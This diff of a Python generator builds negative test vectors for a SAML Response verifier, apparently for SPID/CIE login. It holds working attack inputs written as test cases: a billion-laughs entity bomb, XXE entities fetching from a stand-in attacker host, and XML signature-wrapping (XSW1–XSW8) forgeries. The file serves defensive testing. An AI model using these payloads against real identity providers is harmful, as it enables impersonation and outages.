+                post=chain(dtd("<!DOCTYPE samlp:Response [\n" + lol + "\n]>"), rep("@ENTITY@", "&lol9;")))
+    g.invalid("billion laughs: nine levels of nested entities, gigabytes once expanded; refused at the DOCTYPE", f, "xml.dtd.forbidden", ["DtdForbidden", "EntityExpansion"])
+    f = out.doc("doctype-external-subset", "a DOCTYPE naming an external DTD subset on the network (signatures valid)", post=dtd('<!DOCTYPE samlp:Response SYSTEM "https://attacker.idbridge.test/saml.dtd">'))
+    g.invalid("an external DTD subset on the network: never fetched, refused", f, "xml.dtd.forbidden", ["DtdForbidden"])
+    f = out.doc("doctype-parameter-entity", "a DOCTYPE with an external parameter entity (%remote;) (signatures valid)",
+                post=dtd('<!DOCTYPE samlp:Response [\n  <!ENTITY % remote SYSTEM "https://attacker.idbridge.test/x.dtd">\n  %remote;\n]>'))
+    g.invalid("an external parameter entity expanded inside the internal subset (out-of-band XXE): refused", f, "xml.dtd.forbidden", ["DtdForbidden"])
+    f = out.raw("truncated", "the first half of responses/valid.xml", good[: len(good) // 2])
+    g.invalid("the document cut in half", f, "xml.malformed", ["MalformedXml"])
+    f = out.doc("undeclared-prefix", "the reference Response with Status written as samlx:Status, a prefix never declared", post=chain(rep("<samlp:Status>", "<samlx:Status>"), rep("</samlp:Status>", "</samlx:Status>")))
+    g.invalid("an element with an undeclared prefix: not namespace-well-formed", f, "xml.malformed", ["MalformedXml"])
+    f = out.raw("two-roots", "responses/valid.xml followed by the same Response again (two root elements)", good + good[len(DECL):])
+    g.invalid("two root elements (the signed Response twice)", f, "xml.malformed", ["MalformedXml"])
+    f = out.raw("empty", "an empty file", b"")
+    g.invalid("no bytes at all", f, "xml.malformed", ["MalformedXml"])
+    g = vf.group(f"{SRC_SPEC} S1 then S2", input_encoding="base64")
+    f = out.raw("base64-doctype", "base64 of responses/doctype-internal-entity.xml", b64(out.files["responses/doctype-internal-entity.xml"][0]), "b64")
+    g.invalid("the internal-entity document posted as base64: decoding succeeds, the DOCTYPE is refused", f, "xml.dtd.forbidden", ["DtdForbidden"])
+
+
+def encrypted_assertion(label):
+    cipher = b64(hashlib.sha512(label.encode()).digest() * 6)
+    return El("saml:EncryptedAssertion", children=[
+        El("xenc:EncryptedData", [("xmlns:xenc", XENC), ("Type", XENC + "Element")], [
+            El("xenc:EncryptionMethod", [("Algorithm", "http://www.w3.org/2009/xmlenc11#aes256-gcm")]),
+            El("xenc:CipherData", children=[El("xenc:CipherValue", text=cipher)])])])
+
+
+def envelope_cases(out):
+    B = out.base()
+    A1 = B.but(resp_sig=None)  # the genuine Response for Assertion-level wrapping: only the Assertion is signed
+    vf = out.vfile("envelope.json", "the Response envelope (S3) and signature wrapping (XSW)", [
+        "The Response content model and the XML Signature Wrapping family: a genuine signed Assertion or Response moved elsewhere, an evil unsigned one in its place.",
+        f"Generated by {GEN}. The genuine parts are the reference Response of valid.json (signed by the IdP); the evil Assertion names the attacker ({MALLORY_CF}, Mallory Evil) and is unsigned. Surgery after signing is done with lxml and re-serialized: the genuine signed elements keep their exc-c14n form, so their signatures remain valid wherever they are.",
+    ])
+    g = vf.group(f"SAML core 2.0 3.2.2 (StatusResponseType), 3.3.3 (Response), 2.3.3 (Assertion); {RT_RESP}; {SRC_SPEC} S3")
+    f = out.doc("root-assertion", "the signed Assertion alone, as the document element", A1, post=lx(lambda r: lx_assertion(r)))
+    g.invalid("the genuine signed Assertion posted alone, without its Response: the root must be samlp:Response", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("root-wrapper", "the genuine signed Response inside an idbr:Envelope root element", post=lx(lambda r: (lambda w: (w.append(r), w)[1])(etree.Element(q(IDBR, "Envelope"), nsmap={"idbr": IDBR}))))
+    g.invalid("the genuine signed Response wrapped in a foreign root element: the root must be the Response", f, "saml.structure.invalid", ["StrictEnvelope", "SignatureWrapping"])
+    f = out.doc("root-logoutresponse", "a samlp:LogoutResponse root (same content, signed)", edit=lambda R: setattr(R, "name", "samlp:LogoutResponse"))
+    g.invalid("a samlp:LogoutResponse, signed by the IdP, with a valid Assertion inside: not a Response", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("root-saml-namespace", "the root element named Response but in the assertion namespace (saml:Response), signed", edit=lambda R: setattr(R, "name", "saml:Response"))
+    g.invalid("the root is {urn:oasis:names:tc:SAML:2.0:assertion}Response: right local name, wrong namespace", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("issuer-after-status", "the Response Issuer moved after Status (before signing)", edit=lambda R: R.insert_after("Status", R.remove("Issuer")))
+    g.invalid("Response children out of schema order (Signature, Status, Issuer, Assertion)", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("extensions-before-issuer", "samlp:Extensions placed before the Response Issuer (before signing)", edit=lambda R: R.children.insert(0, El("samlp:Extensions", children=[El("idbr:Trace", [("xmlns:idbr", IDBR)], text="x")])))
+    g.invalid("Extensions before Issuer: out of schema order", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("text-between-children", "non-whitespace text ('junk') between Status and the Assertion (before signing)", edit=lambda R: R.insert_after("Status", Raw("junk")))
+    g.invalid("character data between Response children", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("unknown-child", "a foreign element idbr:Extra after Status (before signing)", edit=lambda R: R.insert_after("Status", El("idbr:Extra", [("xmlns:idbr", IDBR)], text="x")))
+    g.invalid("an unknown element as a Response child (allowed only inside Extensions)", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("two-status", "two samlp:Status elements (before signing)", edit=lambda R: R.insert_after("Status", El("samlp:Status", children=[El("samlp:StatusCode", [("Value", SUCCESS)])])))
+    g.invalid("Status twice", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("two-response-issuers", "two saml:Issuer elements at the head of the Response (before signing)", edit=lambda R: R.children.insert(0, El("saml:Issuer", [("Format", ENTITY)], text=esc(SPID_IDP))))
+    g.invalid("Issuer twice in the Response", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("encrypted-assertion", "a Response whose only Assertion is a saml:EncryptedAssertion (opaque ciphertext), Response signed", edit=lambda R: lx_noop(R.children.__setitem__(R.index(R.find("Assertion")), encrypted_assertion("encrypted-assertion"))))
+    g.invalid("an EncryptedAssertion: not supported by this verifier (SPID/CIE IdPs send plain signed Assertions), refused with a clear reason", f, "saml.structure.invalid", ["EncryptedAssertion"])
+    f = out.doc("encrypted-and-plain-assertion", "a signed Response holding an EncryptedAssertion and the plain signed Assertion", edit=lambda R: R.insert_before("Assertion", encrypted_assertion("encrypted-and-plain")))
+    g.invalid("an EncryptedAssertion beside a valid plain Assertion: refused (which one would the SP read?)", f, "saml.structure.invalid", ["EncryptedAssertion", "StrictEnvelope"])
+
+    def two_signed(R):
+        other = tree_of(A1.but(person=MALLORY), "two-signed-assertions/second").find("Assertion")
+        R.children.append(other)
+    f = out.doc("two-signed-assertions", "a Response (unsigned) with two Assertions, each validly signed by the IdP (the second for another person)", A1, edit=two_signed)
+    g.invalid("two Assertions, both genuinely signed by the IdP but for two people: exactly one Assertion is allowed (CVE-2022-41912 read one and verified the other)", f, "saml.structure.invalid", ["StrictEnvelope", "SignatureWrapping"])
+
+    def advice(R):
+        inner = tree_of(A1, "advice-assertion/inner").find("Assertion")
+        A = R.find("Assertion")
+        A.insert_after("Conditions", El("saml:Advice", children=[inner]))
+    f = out.doc("advice-assertion", "the Assertion carries saml:Advice holding another signed Assertion (all signed by the IdP)", A1, edit=advice)
+    g.invalid("an Assertion nested in saml:Advice: every Assertion in the document must be the Response's Assertion child (Advice must not be used in SPID)", f, "saml.structure.invalid", ["StrictEnvelope"])
+    f = out.doc("nested-response-in-extensions", "a copy of the signed Response inside the Response's samlp:Extensions (outer Response unsigned)", A1,
+                post=lx(lambda r: (lambda ext: (r.find(q(SAMLP, "Status")).addprevious(ext), ext.append(copy.deepcopy(r))))(etree.Element(q(SAMLP, "Extensions")))))
+    g.invalid("a second samlp:Response (the genuine one, copied) inside Extensions: the document must hold exactly one Response", f, "saml.structure.invalid", ["StrictEnvelope", "SignatureWrapping"])
+
+    # ---------------------------------------------------------- signature wrapping
+    g = vf.group(f"J. Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (USENIX Security 2012), attacks XSW1-XSW8; SAML core 2.0 5.4.2; {SRC_SPEC} S3, S5, S9")
+    genuine_both = out.files["responses/valid.xml"][0]
+    genuine_a = out.doc("xsw-genuine", "the genuine Response used by the wrapping cases: Response unsigned, Assertion signed by the IdP", A1)
+    g.valid("the genuine Response the wrapping cases start from (Response unsigned, Assertion signed)", genuine_a, identity_of(A1), ["OptionalResponseSignature"])
+    ga = out.files[genuine_a][0]
+
+    def wrap_case(slug, desc, fn, src=ga):
+        root = parse(src)
+        res = fn(root)
+        root = res if isinstance(res, etree._Element) else root
+        return out.raw(slug, desc, serialize(root))
+
+    def xsw1(r):
+        evil = copy.deepcopy(r)
+        evil.set("ID", hid("xsw1/evil-response"))
+        lx_replace(lx_assertion(evil), evil_assertion(out, "xsw1"))
+        obj = etree.SubElement(lx_sig(evil), q(DS, "Object"))
+        obj.append(r)
+        return evil
+    f = wrap_case("xsw1-response-in-signature-object", "XSW1: an evil Response (new ID, evil unsigned Assertion) keeps the genuine Response Signature, whose ds:Object holds the genuine signed Response", xsw1, genuine_both)
+    g.invalid("XSW1: the root is an evil Response with the attacker's Assertion; the genuine signed Response sits in a ds:Object of the copied Signature, which still references it", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def xsw2(r):
+        evil = copy.deepcopy(r)
+        evil.set("ID", hid("xsw2/evil-response"))
+        lx_replace(lx_assertion(evil), evil_assertion(out, "xsw2"))
+        lx_sig(evil).addprevious(r)
+        return evil
+    f = wrap_case("xsw2-response-before-signature", "XSW2: an evil Response with the genuine signed Response inserted as a child just before the copied Signature", xsw2, genuine_both)
+    g.invalid("XSW2: the genuine signed Response is a child of the evil Response, placed before the Signature that references it (detached-style)", f, "saml.structure.invalid", ["SignatureWrapping"])
+    f = wrap_case("xsw3-evil-assertion-first", "XSW3: an evil unsigned Assertion inserted before the genuine signed Assertion", lambda r: lx_assertion(r).addprevious(evil_assertion(out, "xsw3")))
+    g.invalid("XSW3: an evil unsigned Assertion placed before the genuine signed one (a reader taking the first Assertion gets the attacker)", f, "saml.structure.invalid", ["SignatureWrapping"])
+    f = wrap_case("xsw-evil-assertion-last", "the genuine signed Assertion followed by an evil unsigned Assertion", lambda r: lx_assertion(r).addnext(evil_assertion(out, "xsw-last")))
+    g.invalid("the genuine signed Assertion first, an evil unsigned one after it (CVE-2022-41912: the signature of one Assertion checked, the attributes of another read)", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def xsw4(r):
+        A = lx_assertion(r)
+        ev = evil_assertion(out, "xsw4")
+        lx_replace(A, ev)
+        ev.append(A)
+    f = wrap_case("xsw4-assertion-inside-evil", "XSW4: the genuine signed Assertion moved inside an evil Assertion (as its last child)", xsw4)
+    g.invalid("XSW4: the evil Assertion is the Response child; the genuine signed Assertion is nested inside it", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def xsw5(r):
+        A = lx_assertion(r)
+        ev = evil_assertion(out, "xsw5")
+        ev.find(q(SAML, "Issuer")).addnext(copy.deepcopy(lx_sig(A)))
+        A.addprevious(ev)
+    f = wrap_case("xsw5-evil-with-copied-signature", "XSW5: an evil Assertion carrying a copy of the genuine Signature, then the genuine signed Assertion", xsw5)
+    g.invalid("XSW5: the evil Assertion carries a copy of the genuine Signature (still referencing the genuine ID); the genuine Assertion follows as a second Assertion", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def xsw6(r):
+        A = lx_assertion(r)
+        ev = evil_assertion(out, "xsw6")
+        sig = copy.deepcopy(lx_sig(A))
+        ev.find(q(SAML, "Issuer")).addnext(sig)
+        lx_replace(A, ev)
+        etree.SubElement(sig, q(DS, "Object")).append(A)
+    f = wrap_case("xsw6-assertion-in-signature-object", "XSW6: an evil Assertion with a copy of the genuine Signature, whose ds:Object holds the genuine signed Assertion", xsw6)
+    g.invalid("XSW6: the genuine signed Assertion hidden in a ds:Object of the Signature copied into the evil Assertion", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def xsw7(r):
+        A = lx_assertion(r)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        r.find(q(SAMLP, "Status")).addprevious(ext)
+        lx_replace(A, evil_assertion(out, "xsw7"))
+        ext.append(A)
+    f = wrap_case("xsw7-assertion-in-extensions", "XSW7: the genuine signed Assertion moved into samlp:Extensions, an evil unsigned Assertion in its place", xsw7)
+    g.invalid("XSW7: the genuine signed Assertion inside Extensions (schema-valid: Extensions takes any element), the attacker's unsigned Assertion as the Response's Assertion", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def xsw8(r):
+        A = lx_assertion(r)
+        ev = evil_assertion(out, "xsw8")
+        sig = copy.deepcopy(lx_sig(A))
+        ev.find(q(SAML, "Issuer")).addnext(sig)
+        lx_replace(A, ev)
+        A.remove(lx_sig(A))
+        etree.SubElement(sig, q(DS, "Object")).append(A)
+    f = wrap_case("xsw8-unsigned-copy-in-object", "XSW8: an evil Assertion with the genuine Signature; its ds:Object holds the genuine Assertion with its Signature removed", xsw8)
+    g.invalid("XSW8: the Signature moved into the evil Assertion, the genuine Assertion (its Signature removed, so the enveloped transform still matches) in a ds:Object", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def in_status_detail(r):
+        A = lx_assertion(r)
+        detail = etree.SubElement(r.find(q(SAMLP, "Status")), q(SAMLP, "StatusDetail"))
+        lx_replace(A, evil_assertion(out, "status-detail"))
+        detail.append(A)
+    f = wrap_case("xsw-assertion-in-statusdetail", "the genuine signed Assertion moved into Status/StatusDetail, an evil unsigned Assertion in its place", in_status_detail)
+    g.invalid("the genuine signed Assertion hidden in StatusDetail (which takes any element), the evil one in its place", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def in_scd(r):
+        A = lx_assertion(r)
+        ev = evil_assertion(out, "scd")
+        lx_replace(A, ev)
+        ev.find(q(SAML, "Subject")).find(q(SAML, "SubjectConfirmation")).find(q(SAML, "SubjectConfirmationData")).append(A)
+    f = wrap_case("xsw-assertion-in-subjectconfirmationdata", "the genuine signed Assertion moved inside the evil Assertion's SubjectConfirmationData", in_scd)
+    g.invalid("the genuine signed Assertion inside the evil Assertion's SubjectConfirmationData (which takes any content)", f, "saml.structure.invalid", ["SignatureWrapping"])
+    f = wrap_case("xsw-assertion-in-extensions-only", "the genuine signed Assertion moved into samlp:Extensions, no Assertion child left", lambda r: (lambda A, ext: (r.find(q(SAMLP, "Status")).addprevious(ext), ext.append(A)))(lx_assertion(r), etree.Element(q(SAMLP, "Extensions"))))
+    g.invalid("the only Assertion sits in Extensions: an Assertion outside the Response's Assertion child (a Success Response without an Assertion would fail later anyway)", f, "saml.structure.invalid", ["SignatureWrapping"])
+
+    def transplant(r):
+        A = lx_assertion(r)
+        ev = evil_assertion(out, "transplant")
+        ev.find(q(SAML, "Issuer")).addnext(copy.deepcopy(lx_sig(A)))
+        lx_replace(A, ev)
+    f = wrap_case("xsw-signature-transplant", "an evil Assertion (own ID) carrying a copy of the genuine Signature; the genuine Assertion removed", transplant)
+    g.invalid("the evil Assertion carries the genuine Signature, whose Reference names the genuine Assertion's ID, no longer in the document: the Reference must name the Signature's own parent", f, "xmldsig.reference.invalid", ["SignatureWrapping", "ReferenceConfusion"])
+
+    def same_id(r):
+        A = lx_assertion(r)
+        ev = evil_assertion(out, "same-id")
+        ev.set("ID", A.get("ID"))
+        ev.find(q(SAML, "Issuer")).addnext(copy.deepcopy(lx_sig(A)))
+        lx_replace(A, ev)
+    f = wrap_case("xsw-evil-with-genuine-id", "an evil Assertion with the genuine Assertion's ID and a copy of its Signature, the genuine Assertion removed", same_id)
+    g.invalid("the evil Assertion takes the genuine ID and Signature: the Reference resolves, the digest of the attacker's content does not match", f, "xmldsig.digest.mismatch", ["SignatureWrapping", "TamperedAfterSigning"])
+
+    def id_collision(r):
+        A = lx_assertion(r)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        marker = etree.SubElement(ext, q(IDBR, "Marker"), nsmap={"idbr": IDBR})
+        marker.set("ID", A.get("ID"))
+        r.find(q(SAMLP, "Status")).addprevious(ext)
+    f = wrap_case("xsw-id-collision", "Extensions holds an element carrying the genuine Assertion's ID (before the Assertion); the Assertion is unchanged", id_collision)
+    g.invalid("another element (in Extensions, before the Assertion) carries the same ID as the signed Assertion: a getElementById-style lookup finds it first; the ID must be unique", f, "xmldsig.reference.invalid", ["SignatureWrapping", "ReferenceConfusion"])
+
+    f = out.doc("duplicate-id-response-assertion", "the Response's ID equals the Assertion's ID (Response unsigned, Assertion signed)", A1,
+                edit=lambda R: R.set("ID", R.find("Assertion").get("ID")))
+    g.invalid("the Response and the Assertion share one ID (Response unsigned): the Assertion's Reference is ambiguous", f, "xmldsig.reference.invalid", ["ReferenceConfusion"])
+    f = out.doc("response-signature-references-assertion", "the Response's Signature is a valid signature over the Assertion (Reference = #Assertion ID), placed as a Response child", B,
+                edit=lambda R: R.children.__setitem__(1, Sig(uris=("#" + R.find("Assertion").get("ID"),))))
+    g.invalid("the Signature child of the Response signs the Assertion, not the Response: a signature only counts for the element that holds it", f, "xmldsig.reference.invalid", ["ReferenceConfusion", "SignatureWrapping"])
+    f = out.doc("assertion-signature-references-response", "the Assertion's Signature references the Response's ID (Response unsigned)", A1,
+                edit=lambda R: R.find("Assertion").children.__setitem__(1, Sig(uris=("#" + R.get("ID"),))))
+    g.invalid("the Assertion's Signature is a valid signature over the whole Response: it does not sign the Assertion that holds it", f, "xmldsig.reference.invalid", ["ReferenceConfusion", "SignatureWrapping"])
+
+
+def lx_noop(*_):
+    return None
+
+
+def signature_cases(out):
+    B = out.base()
+    ident = identity_of(B)
+    A1 = B.but(resp_sig=None)
+    stranger = lambda **kw: Sig(key="rsa2048-b", keyinfo=("stranger",), **kw)
+    vf = out.vfile("signature.json", "IdP selection (S4) and the Response and Assertion signatures (S5, S9)", [
+        "Which key may sign, what a signature must look like, and what happens when it is missing, untrusted, tampered with or made with a forbidden algorithm.",
+        f"Generated by {GEN}. The stranger key is ../keys/rsa2048-b.pk8.pem with a certificate that copies the IdP's subject name (an impostor): trust is decided by the key, never by a name. Cases about the Assertion signature leave the Response unsigned, so that S9 alone decides.",
+    ])
+    g = vf.group(f"{RT_RESP} (Assertion 'SI DEVE' Signature; Response 'SI PUO'' Signature); XML-DSig 1.1; SAML core 2.0 5.4; {SRC_SPEC} S4, S5, S9")
+    f = out.doc("unsigned", "neither the Response nor the Assertion is signed", B.but(resp_sig=None, assert_sig=None))
+    g.invalid("no signature at all", f, "xmldsig.signature.missing", ["UnsignedAssertion"])
+    f = out.doc("assertion-unsigned", "the Response signed by the IdP, the Assertion unsigned", B.but(assert_sig=None))
+    g.invalid("the Response is validly signed, the Assertion is not: SPID requires the Assertion signature even then", f, "xmldsig.signature.missing", ["UnsignedAssertion"])
+    f = out.doc("stranger-both-keyinfo", "Response and Assertion signed by the stranger key, its certificate (IdP's subject name) in KeyInfo", B.but(resp_sig=stranger(), assert_sig=stranger()))
+    g.invalid("both signed by a stranger whose certificate (copying the IdP's name) is in KeyInfo: the Response signature already names an untrusted certificate", f, "xmldsig.key.untrusted", ["UntrustedSigningKey"])
+    f = out.doc("stranger-both-no-keyinfo", "Response and Assertion signed by the stranger key, no KeyInfo", B.but(key="rsa2048-b", cert=None))
+    g.invalid("both signed by a stranger, no KeyInfo: the IdP's key does not verify the Response signature", f, "xmldsig.signature.invalid", ["UntrustedSigningKey"])
+    f = out.doc("stranger-assertion-keyinfo", "Response unsigned; the Assertion signed by the stranger, its certificate in KeyInfo", A1.but(assert_sig=stranger()))
+    g.invalid("the Assertion signed by a stranger with its certificate in KeyInfo", f, "xmldsig.key.untrusted", ["UntrustedSigningKey"])
+    f = out.doc("stranger-assertion-no-keyinfo", "Response unsigned; the Assertion signed by the stranger, no KeyInfo", A1.but(assert_sig=Sig(key="rsa2048-b", keyinfo=None)))
+    g.invalid("the Assertion signed by a stranger without KeyInfo: indistinguishable from a broken signature", f, "xmldsig.signature.invalid", ["UntrustedSigningKey"])
+    f = out.doc("idp-response-stranger-assertion", "the Response signed by the IdP over an Assertion signed by the stranger (certificate in KeyInfo)", B.but(assert_sig=stranger()))
+    g.invalid("a genuine IdP Response signature over an Assertion signed by a stranger: the Response signature verifies, the Assertion's names an untrusted certificate (no upstream case has this mix)", f, "xmldsig.key.untrusted", ["UntrustedSigningKey"])
+    f = out.doc("idp-response-stranger-assertion-no-keyinfo", "the Response signed by the IdP over an Assertion signed by the stranger without KeyInfo", B.but(assert_sig=Sig(key="rsa2048-b", keyinfo=None)))
+    g.invalid("the same without KeyInfo in the Assertion signature", f, "xmldsig.signature.invalid", ["UntrustedSigningKey"])
+    f = out.doc("stranger-response-idp-assertion", "the Response signed by the stranger (certificate in KeyInfo) around an Assertion validly signed by the IdP", B.but(resp_sig=stranger()))
+    g.invalid("a valid IdP Assertion inside a Response signed by a stranger: a present Response signature is verified and must be the IdP's", f, "xmldsig.key.untrusted", ["UntrustedSigningKey", "OptionalResponseSignature"])
+    f = out.doc("keyinfo-lies", "Response unsigned; the Assertion signed by the stranger with the IdP's genuine certificate in KeyInfo", A1.but(assert_sig=Sig(key="rsa2048-b", keyinfo=("spid-idp",))))
+    g.invalid("the stranger's signature presented with the IdP's own certificate in KeyInfo: KeyInfo names a trusted certificate, but its key does not verify", f, "xmldsig.signature.invalid", ["UntrustedSigningKey"])
+    f = out.doc("keyinfo-renewed-certificate", "Response unsigned; the Assertion signed by the IdP key with another certificate of the same key (spid-idp-renewed) in KeyInfo", A1.but(assert_sig=Sig(keyinfo=("spid-idp-renewed",))))
+    g.invalid("signed by the IdP's key, but KeyInfo carries a renewed certificate (same key, other serial) that is not in the metadata: by this suite's KeyInfo rule (certificate bytes) the key is untrusted", f, "xmldsig.key.untrusted", ["KeyInfoCertificateBytes"])
+    f = out.doc("keyinfo-two-certificates", "Response unsigned; the Assertion signed by the IdP, KeyInfo holding the IdP certificate and the stranger's", A1.but(assert_sig=Sig(keyinfo=("spid-idp", "stranger"))))
+    g.invalid("KeyInfo holds the IdP's certificate and a stranger's: any certificate that is not a metadata signing certificate makes the signature untrusted", f, "xmldsig.key.untrusted", ["KeyInfoCertificateBytes", "UntrustedSigningKey"])
+    f = out.doc("untrusted-issuer", "both Issuers name an IdP that is not trusted (https://idp.evil.example/spid); signed by the stranger", B.but(issuer="https://idp.evil.example/spid", name_qualifier="https://idp.evil.example/spid", key="rsa2048-b", cert="stranger"))
+    g.invalid("a Response from an IdP that is not in the trusted metadata: no keys to verify with", f, "saml.issuer.invalid", ["IssuerSpoofing"])
+    f = out.doc("untrusted-assertion-issuer", "the Assertion Issuer names an untrusted IdP, the Response Issuer the trusted one; everything signed by the IdP", B.but(a_issuer="https://idp.evil.example/spid"))
+    g.invalid("the Assertion Issuer (which selects the keys) names an untrusted IdP, although the trusted IdP signed everything", f, "saml.issuer.invalid", ["IssuerSpoofing"])
+    f = out.doc("issuer-trailing-slash", "both Issuers written with a trailing slash (https://idp.idbridge.test/spid/); signed by the IdP", B.but(issuer=SPID_IDP + "/"))
+    g.invalid("the entityID with a trailing slash: entityIDs are compared as exact strings", f, "saml.issuer.invalid", ["IssuerSpoofing"])
+
+    g = vf.group(f"XML-DSig 1.1 4.4 (SignedInfo), 4.4.3 (Reference), 6 (algorithms); {RT_RESP} (RSA >= 2048, SHA-256 or better); SAML core 2.0 5.4.2-5.4.4; {SRC_SPEC} S9")
+    g.invalid("the Assertion signature's SignatureValue with its last bit flipped", out.doc("tampered-signaturevalue", "Response unsigned; the last bit of the Assertion's SignatureValue flipped after signing", A1, post=flip_sigvalue(0)), "xmldsig.signature.invalid", ["TamperedAfterSigning"])
+    other = b64(hashlib.sha256(b"other").digest())
+    f = out.doc("tampered-digestvalue", "Response unsigned; the Assertion's DigestValue replaced after signing", A1,
+                post=lambda s: re.sub(r"(<ds:DigestValue>)[^<]*(</ds:DigestValue>)", lambda m: m.group(1) + other + m.group(2), s, count=1))
+    g.invalid("the DigestValue replaced: the digest no longer matches the Assertion (and SignedInfo's signature is broken too: the digest is checked first)", f, "xmldsig.digest.mismatch", ["TamperedAfterSigning", "CheckOrder"])
+    f = out.doc("tampered-signedinfo-whitespace", "Response unsigned; an extra line feed inserted inside the Assertion's SignedInfo after signing", A1, post=rep("<ds:SignedInfo>\n", "<ds:SignedInfo>\n\n"))
+    g.invalid("whitespace added inside SignedInfo after signing: c14n keeps whitespace text, the signature over SignedInfo fails (the digest still matches)", f, "xmldsig.signature.invalid", ["TamperedAfterSigning"])
+    f = out.doc("tampered-fiscalnumber", "Response unsigned; the fiscalNumber changed to the attacker's after signing", A1, post=rep(GIULIA["fiscalNumber"], MALLORY_CF))
+    g.invalid("the fiscalNumber replaced after signing", f, "xmldsig.digest.mismatch", ["TamperedAfterSigning"])
+    f = out.doc("tampered-name-both-signed", "both signed; the name changed after signing", post=rep(">Giulia<", ">Mallory<"))
+    g.invalid("the name changed after signing in a Response whose both signatures are present: the Response signature (checked first) covers the Assertion", f, "xmldsig.digest.mismatch", ["TamperedAfterSigning"])
+    f = out.doc("tampered-response-issueinstant", "both signed; the Response IssueInstant moved by one second after signing (still inside the window)", post=rep('IssueInstant="2026-03-01T10:00:10Z" Destination', 'IssueInstant="2026-03-01T10:00:11Z" Destination'))
+    g.invalid("a Response attribute changed after signing (to a value that would otherwise pass)", f, "xmldsig.digest.mismatch", ["TamperedAfterSigning"])
+    f = out.doc("tampered-keyinfo-removed-response", "both signed; the Response Signature's KeyInfo removed after signing (KeyInfo is not signed)", post=lambda s: s[:s.index("    <ds:KeyInfo>")] + s[s.index("</ds:KeyInfo>\n") + len("</ds:KeyInfo>\n"):])
+    g.valid("the Response Signature's KeyInfo cut out after signing: KeyInfo is outside SignedInfo, the key comes from metadata", f, ident, ["Tolerance"])
+    for slug, sig, code, what, flags in [
+        ("alg-rsa-sha1", Sig(sm=RSA_SHA1), "xmldsig.algorithm.forbidden", "SignatureMethod rsa-sha1 (otherwise a correct signature)", ["WeakAlgorithm"]),
+        ("alg-digest-sha1", Sig(dm=SHA1), "xmldsig.algorithm.forbidden", "DigestMethod sha1", ["WeakAlgorithm"]),
+        ("alg-hmac-sha256", Sig(sm=HMAC_SHA256, keyinfo=None), "xmldsig.algorithm.forbidden", "SignatureMethod hmac-sha256 (a shared-secret MAC, no KeyInfo)", ["WeakAlgorithm"]),
+        ("alg-c14n-inclusive", Sig(cm=C14N), "xmldsig.algorithm.forbidden", "CanonicalizationMethod inclusive c14n 1.0 (SignedInfo signed that way)", ["WeakAlgorithm"]),
+        ("alg-c14n-exc-with-comments", Sig(cm=EXC_WC), "xmldsig.algorithm.forbidden", "CanonicalizationMethod exc-c14n#WithComments (SignedInfo signed that way)", ["WeakAlgorithm"]),
+        ("transforms-none", Sig(transforms=()), "xmldsig.transform.forbidden", "a Reference without Transforms", ["TransformChain"]),
+        ("transforms-exc-only", Sig(transforms=(EXC,)), "xmldsig.transform.forbidden", "only the exc-c14n transform (no enveloped-signature)", ["TransformChain"]),
+        ("transforms-enveloped-only", Sig(transforms=(ENV,)), "xmldsig.transform.forbidden", "only enveloped-signature (no c14n transform: inclusive c14n by default)", ["TransformChain"]),
+        ("transforms-inclusive", Sig(transforms=(ENV, C14N)), "xmldsig.transform.forbidden", "enveloped-signature then inclusive c14n 1.0", ["TransformChain"]),
+        ("transforms-with-comments", Sig(transforms=(ENV, EXC_WC)), "xmldsig.transform.forbidden", "enveloped-signature then exc-c14n#WithComments", ["TransformChain"]),
+        ("transforms-reversed", Sig(transforms=(EXC, ENV)), "xmldsig.transform.forbidden", "exc-c14n then enveloped-signature (reversed)", ["TransformChain"]),
+        ("transforms-three", Sig(transforms=(ENV, EXC, EXC)), "xmldsig.transform.forbidden", "enveloped-signature, exc-c14n, exc-c14n (three transforms)", ["TransformChain"]),
+        ("reference-uri-empty", Sig(uris=("",)), "xmldsig.reference.invalid", "Reference URI=\"\" (the whole document) although the Assertion has an ID", ["ReferenceConfusion"]),
+        ("reference-uri-bare-id", Sig(uris=("@BARE@",)), "xmldsig.reference.invalid", "Reference URI = the Assertion ID without '#'", ["ReferenceConfusion"]),
+        ("reference-two", Sig(uris=(None, None)), "xmldsig.reference.invalid", "two References, both to the Assertion", ["ReferenceConfusion"]),
+    ]:
+        edit = None
+        if slug == "reference-uri-bare-id":
+            edit = lambda R: R.find("Assertion").children.__setitem__(1, Sig(uris=(R.find("Assertion").get("ID"),)))
+        f = out.doc(slug, f"Response unsigned; the Assertion signature with {what}", A1.but(assert_sig=sig) if edit is None else A1, edit=edit)
+        g.invalid(f"the Assertion signature uses {what}", f, code, flags)
+    f = out.doc("reference-assertion-id-empty", "Response unsigned; Assertion ID=\"\" and its signature's Reference URI=\"#\"", A1, edit=sa("Assertion", "ID", ""))
+    g.invalid("the Assertion's ID is empty (Reference URI=\"#\"): nothing to reference", f, "xmldsig.reference.invalid", ["ReferenceConfusion", "MissingElement"])
+    f = out.doc("reference-assertion-id-missing", "Response unsigned; Assertion without ID, its signature with Reference URI=\"\"", A1, edit=seq(da("Assertion", "ID"), lambda R: R.find("Assertion").children.__setitem__(1, Sig(uris=("",)))))
+    g.invalid("the Assertion has no ID and its signature covers the whole document (URI=\"\")", f, "xmldsig.reference.invalid", ["ReferenceConfusion", "MissingElement"])
+    f = out.doc("reference-response-id-missing", "the Response without ID, its signature with Reference URI=\"\"; the Assertion signed normally", B, edit=seq(da("", "ID"), lambda R: R.children.__setitem__(1, Sig(uris=("",)))))
